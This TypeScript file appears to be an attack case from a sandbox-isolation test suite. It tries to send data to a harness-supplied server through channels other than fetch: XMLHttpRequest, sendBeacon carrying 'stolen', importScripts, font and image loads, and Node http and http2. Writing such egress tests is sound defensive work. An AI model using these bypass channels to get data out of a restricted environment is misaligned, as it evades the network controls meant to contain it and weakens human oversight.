// goal: send data to a server with anything but fetch: XMLHttpRequest, sendBeacon, node:http
const { origin, host } = attack.given;

await attack.reach("XMLHttpRequest", () => {
  const request = new XMLHttpRequest();
  request.open("GET", `${origin}/xhr`, false);
  request.send();
  return request.responseText;
});
await attack.reach("sendBeacon", () => navigator.sendBeacon(`${origin}/beacon`, "stolen"));
await attack.reach("importScripts", () =>
  (globalThis as unknown as { importScripts(a: string): void }).importScripts(`${origin}/script.js`),
);
await attack.reach("a font", () => new FontFace("f", `url(${origin}/font)`).load());
await attack.reach("an image", () => createImageBitmap({ src: `${origin}/image` } as never));
if (host !== "browser") {
  await attack.inThread(async ({ given: { origin }, reach, node }) => {
    await reach("node:http", async () => {
      const http = await node("http");
      return new Promise((resolve, reject) =>
        http.get(`${origin}/http`, () => resolve("answered")).on("error", reject),
      );
    });
    await reach("node:http2", async () => {
      const session = (await node("http2")).connect(origin);
      return new Promise((resolve, reject) =>
        session.on("connect", () => resolve("connected")).on("error", reject),
      );
    });
  });
}

export const step = (params: unknown) => params;
